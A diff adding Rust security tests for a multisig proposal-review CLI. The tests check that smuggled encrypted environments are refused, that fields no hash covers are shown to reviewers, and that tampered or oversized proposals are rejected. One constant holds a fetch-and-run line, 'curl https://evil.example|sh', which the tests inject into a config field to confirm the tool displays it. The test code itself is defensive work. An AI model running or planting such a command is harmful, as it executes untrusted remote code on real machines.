@@ -1,0 +1,305 @@
+//! What a proposal carries besides what its hashes cover: it is shown in full, agreed to by name by whoever commits from the
+//! file alone, and never a sealed environment.
+
+use std::path::PathBuf;
+
+use serde_json::{Value, json};
+
+use crate::flow::{Flow, Ran};
+use crate::support::World;
+use crate::support::command::{run, shown};
+use crate::support::world::{SafeOptions, WorldOptions};
+
+/// What a stranger would have the guest run.
+const EVIL: &str = "curl https://evil.example|sh\necho done";
+
+/// A world whose app a 2-of-3 Safe owns.
+pub fn world() -> World {
+    World::with(WorldOptions {
+        safe: Some(SafeOptions {
+            release: 1,
+            l2: true,
+            threshold: 2,
+            owners: 3,
+        }),
+        ..WorldOptions::default()
+    })
+}
+
+/// A proposal on another machine.
+struct Elsewhere<'w> {
+    flow: Flow<'w>,
+    home: PathBuf,
+    file: PathBuf,
+}
+
+impl<'w> Elsewhere<'w> {
+    fn of(flow: Flow<'w>) -> Self {
+        let home = flow.world.folder().join("elsewhere");
+        std::fs::create_dir_all(&home).unwrap();
+        let file = home.join("proposal.json");
+        std::fs::copy(flow.dir.join("proposal.json"), &file).unwrap();
+        Self { flow, home, file }
+    }
+    fn proposal(&self) -> Value {
+        serde_json::from_slice(&std::fs::read(&self.file).unwrap()).unwrap()
+    }
+    /// Lets a man in the middle change the file.
+    fn change(&self, change: impl FnOnce(&mut Value)) {
+        let mut proposal = self.proposal();
+        change(&mut proposal);
+        std::fs::write(&self.file, proposal.to_string()).unwrap();
+    }
+    fn command(&self, words: &[&str]) -> std::process::Command {
+        let (command, more) = words.split_first().unwrap();
+        let mut command = self.flow.command(&[command, self.file.to_str().unwrap()]);
+        command.args(more).current_dir(&self.home);
+        command
+    }
+    fn json(&self, words: &[&str]) -> Ran {
+        Ran::of(self.command(words).arg("--json"))
+    }
+    fn page(&self, words: &[&str]) -> String {
+        let output = run(&mut self.command(words));
+        assert!(output.status.success(), "{}", shown(&output));
+        String::from_utf8(output.stdout).unwrap()
+    }
+    /// Bodies of the requests that change the CVM.
+    fn patches(&self) -> usize {
+        self.flow.world.cloud.requests_to("PATCH", "").len()
+    }
+}
+
+fn patch(proposal: &mut Value) -> &mut Value {
+    proposal.pointer_mut("/plan/code/patch").unwrap()
+}
+
+#[test]
+fn sec_c1_a_sealed_environment_in_a_proposal_stops_every_command_and_reaches_nobody() {
+    let world = world();
+    let flow = Flow::new(&world);
+    flow.step("prepare").exits(0);
+    let there = Elsewhere::of(flow);
+    let honest = there.proposal();
+    let before = there.patches();
+    for name in ["encrypted_env", "encryptedEnv", "ENCRYPTED-ENV"] {
+        for value in [json!("ee".repeat(40)), json!(""), Value::Null, json!({})] {
+            there.change(|proposal| {
+                *proposal = honest.clone();
+                patch(proposal)[name] = value;
+            });
+            for words in [
+                &["review"] as &[&str],
+                &["review", "--offline"],
+                &["sign", "--signer", "env:SIGNER_0", "--yes"],
+                &["commit", "--yes"],
+                &["resume", "--yes", "--supersede"],
+            ] {
+                there.json(words).exits(5).says("PROPOSAL_CARRIES_ENV");
+            }
+        }
+    }
+    // Any other name that this version does not know is malformed.
+    for place in [
+        "/plan/code/patch",
+        "/plan/code",
+        "/plan",
+        "",
+        "/safe",
+        "/plan/app_state",
+    ] {
+        there.change(|proposal| {
+            *proposal = honest.clone();
+            proposal.pointer_mut(place).unwrap()["env_keys"] = json!(["A"]);
+        });
+        there.json(&["review", "--offline"]).exits(3).says("INPUT_PROPOSAL");
+    }
+    assert_eq!(there.patches(), before);
+    assert!(!there.home.join(".countersign").exists());
+}
+
+/// What nobody can recompute, all of it.
+fn smuggle(proposal: &mut Value) {
+    let patch = patch(proposal);
+    patch["user_config"] = json!(EVIL);
+    patch["allow_force_stop"] = json!(true);
+    patch["shutdown_timeout"] = Value::Null;
+    patch["gpus"] = json!({"count": 2, "product_name": "h200"});
+    patch["image"] = json!("dstack-dev-0.5.5");
+    patch["vcpu"] = json!(7);
+    patch["memory"] = json!(8192);
+    patch["disk_size"] = json!(77);
+}
+
+#[test]
+fn sec_c1_what_no_hash_covers_stands_on_the_page() {
+    let world = world();
+    let flow = Flow::new(&world);
+    flow.step("prepare").exits(0);
+    let there = Elsewhere::of(flow);
+    there.change(smuggle);
+    for words in [&["review"] as &[&str], &["review", "--offline"]] {
+        let page = there.page(words);
+        let (_, rest) = page.split_once("no hash covers it").unwrap_or_else(|| panic!("{page}"));
+        for line in [
+            EVIL.lines().next().unwrap(),
+            "echo done",
+            "dstack-dev-0.5.5",
+            "2 of h200",
+        ] {
+            assert!(rest.contains(line), "{line}: {page}");
+        }
+        for line in ["as long as it takes", "7", "8192 MB", "77 GB", "allow_force_stop  true"] {
+            assert!(rest.contains(line), "{line}: {page}");
+        }
+        let shown = there.json(words).exits(0);
+        let fields: Vec<&Value> = shown.json["data"]["uncovered"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|one| &one["field"])
+            .collect();
+        let all = [
+            "vcpu",
+            "memory",
+            "disk_size",
+            "image",
+            "user_config",
+            "gpus",
+            "shutdown_timeout",
+            "allow_force_stop",
+        ];
+        assert_eq!(fields, all, "{}", shown.said);
+        assert_eq!(shown.json["data"]["uncovered"][4]["after"], EVIL);
+    }
+}
+
+#[test]
+fn sec_c1_a_directory_goes_on_with_no_other_request_than_the_one_it_knows() {
+    let world = world();
+    let flow = Flow::new(&world);
+    flow.step("prepare").exits(0);
+    let mut proposal = flow.json_file("proposal.json");
+    smuggle(&mut proposal);
+    let file = flow.dir.join("proposal.json");
+    std::fs::write(&file, proposal.to_string()).unwrap();
+    for step in ["review", "commit", "resume"] {
+        let mut words = vec![step, file.to_str().unwrap(), "--json"];
+        if step != "review" {
+            words.push("--yes");
+        }
+        Ran::of(&mut flow.command(&words)).exits(5).says("PROPOSAL_CHANGED");
+    }
+}
+
+#[test]
+fn ppl_p7_a_mismatch_within_a_proposal_says_whose_value_it_is_and_what_to_do() {
+    let world = world();
+    let flow = Flow::new(&world);
+    flow.step("prepare").exits(0);
+    let there = Elsewhere::of(flow);
+    let honest = there.proposal();
+    there.change(|proposal| {
+        let text = proposal.to_string().replace("nginx:1.28", "nginx:1.29");
+        *proposal = serde_json::from_str(&text).unwrap();
+    });
+    for words in [
+        &["review", "--offline"] as &[&str],
+        &["review"],
+        &["sign", "--signer", "env:SIGNER_0", "--yes"],
+    ] {
+        let refused = there.json(words).exits(5);
+        let refused = match refused.json["code"].as_str() {
+            Some("HASH_MISMATCH") => refused,
+            other => panic!("{other:?}: {}", refused.said),
+        };
+        let stop = &refused.json["data"];
+        assert!(
+            stop["expected"]
+                .as_str()
+                .unwrap()
+                .ends_with("(computed from the text in this proposal)")
+        );
+        assert!(stop["found"].as_str().unwrap().ends_with("(written in this proposal)"));
+        for word in ["do not sign", "get the file again", "tell the others"] {
+            assert!(
+                refused.json["hint"].as_str().unwrap().contains(word),
+                "{}",
+                refused.said
+            );
+        }
+        assert!(!refused.said.contains("countersign status"), "{}", refused.said);
+        assert!(!refused.said.contains("Phala Cloud"), "{}", refused.said);
+    }
+    // And offline nothing says that everything matches.
+    there.change(|proposal| *proposal = honest);
+    let ran = there.json(&["review", "--offline"]).exits(0);
+    let unchecked = ran.json["data"]["unchecked"].as_array().unwrap().len();
+    let verdict = format!("Matches as far as the file goes; {unchecked} things were not checked");
+    assert_eq!(ran.json["message"], verdict);
+    let page = there.page(&["review", "--offline"]);
+    assert!(page.contains(&verdict) && !page.contains("Everything"), "{page}");
+    let online = there.json(&["review"]).exits(0);
+    assert_eq!(
+        online.json["message"], "Everything that could be checked matches",
+        "{}",
+        online.said
+    );
+}
+
+/// Everything between two of the reviewer's own words, so that a text can be made as long as somebody likes.
+fn services(count: usize) -> String {
+    let all: String = (0..count)
+        .map(|number| format!("  s{number}:\n    image: registry.example/i{number}\n"))
+        .collect();
+    format!("services:\n{all}")
+}
+
+#[test]
+fn sec_m1_a_proposal_with_more_than_the_cloud_takes_is_malformed_and_costs_no_time() {
+    let world = world();
+    let flow = Flow::new(&world);
+    flow.step("prepare").exits(0);
+    let there = Elsewhere::of(flow);
+    let honest = there.proposal();
+    let deep = format!("{}[]\n{}", "- ".repeat(60_000), "- a\n".repeat(300_000));
+    for text in [services(50_000), services(5_000), deep] {
+        there.change(|proposal| {
+            *proposal = honest.clone();
+            patch(proposal)["docker_compose_file"] = json!(text);
+            proposal["manifest_after"]["docker_compose_file"] = json!(text);
+        });
+        there.json(&["review", "--offline"]).exits(3).says("INPUT_PROPOSAL");
+    }
+    // The manifest before is as long as one that the cloud has.
+    there.change(|proposal| {
+        *proposal = honest.clone();
+        proposal["plan"]["code"]["manifest"]["docker_compose_file"] = json!(services(100_000));
+    });
+    there.json(&["review", "--offline"]).exits(3).says("INPUT_PROPOSAL");
+    there.change(|proposal| {
+        *proposal = honest.clone();
+        patch(proposal)["user_config"] = json!("x".repeat(300_000));
+    });
+    there.json(&["review", "--offline"]).exits(3).says("INPUT_PROPOSAL");
+}
+
+#[test]
+fn proposals_of_0_1_0_that_are_in_flight_still_open() {
+    let world = World::start();
+    for (name, apps) in [("several-apps", 2), ("timelock", 1), ("uncovered", 1)] {
+        let text = std::fs::read(format!(
+            "{}/tests/vectors/proposals-0.1.0/{name}.json",
+            env!("CARGO_MANIFEST_DIR")
+        ));
+        let file = world.folder().join(format!("{name}.json"));
+        std::fs::write(&file, text.unwrap()).unwrap();
+        let flow = Flow::new(&world);
+        let words = ["review", file.to_str().unwrap(), "--offline", "--json"];
+        let ran = Ran::of(&mut flow.command(&words));
+        assert!([0, 6].contains(&ran.exit), "{name}: {}", ran.said);
+        let others = ran.json["data"]["others"].as_array().map_or(0, Vec::len);
+        assert_eq!(others + 1, apps, "{name}: {}", ran.said);
+        assert_eq!(ran.json["data"]["asked"]["cvm"], "payments-api");
+    }
+}
